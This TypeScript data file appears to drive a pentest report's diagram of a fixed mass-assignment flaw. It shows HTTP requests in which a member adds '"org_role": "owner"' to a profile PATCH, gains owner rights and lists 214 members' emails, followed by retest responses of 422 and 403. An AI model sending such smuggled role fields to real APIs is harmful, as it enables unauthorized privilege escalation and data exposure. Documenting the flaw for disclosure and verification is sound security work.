import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const apiPath: AttackPath = {
  id: `${findingPrefix}-2026-031`,
  title: 'A member promotes herself to owner',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  reported: '2026-03-04',
  retested: '2026-03-13',
  answers: ['200', '422'],
  cut: 3,
  sides: [{ label: '/v1/health', from: 2, at: 3.2, lane: 0 }],
  hops: [
    {
      label: 'member token',
      glyph: 'key',
      lane: 1,
      name: 'Join as a member',
      lines: [
        'POST /v1/invites/accept HTTP/1.1',
        'Host: api.kestrel.example',
        '',
        'HTTP/1.1 200 OK',
        '{"id": 5521, "org_role": "member"}',
      ],
    },
    {
      label: 'GET /v1/users/me',
      glyph: 'person',
      lane: 0,
      name: 'Read your own record',
      lines: [
        'GET /v1/users/me HTTP/1.1',
        'Authorization: Bearer [user 5521]',
        '',
        'HTTP/1.1 200 OK',
        '{"id": 5521, "org_id": 88, {!"org_role": "member"!}}',
      ],
    },
    {
      label: 'PATCH with org_role',
      glyph: 'document',
      lane: 2,
      name: 'Send back one extra field',
      lines: [
        'PATCH /v1/users/me HTTP/1.1',
        '{"display_name": "R. Iyer", {-"org_role": "owner"-}} {#1}',
        '',
        'HTTP/1.1 200 OK',
        '{"id": 5521, {!"org_role": "owner"!}, "org_id": 88} {#2}',
      ],
      notes: ['no form on the site sends this', 'and the database saves it'],
      after: [
        'PATCH /v1/users/me HTTP/1.1',
        '{"display_name": "R. Iyer", {-"org_role": "owner"-}}',
        '',
        '{+HTTP/1.1 422 Unprocessable Content+}',
        '{"title": "Unknown property: org_role"}',
      ],
    },
    {
      label: 'billing, all members',
      glyph: 'crown',
      lane: 1,
      name: 'Act as the owner',
      lines: [
        'GET /v1/orgs/88/members HTTP/1.1',
        'Authorization: Bearer [user 5521]',
        '',
        'HTTP/1.1 200 OK',
        '[{!214 members with email and last login!}]',
      ],
      after: [
        'GET /v1/orgs/88/members HTTP/1.1',
        'Authorization: Bearer [user 5521]',
        '',
        '{+HTTP/1.1 403 Forbidden+}',
      ],
    },
  ],
};
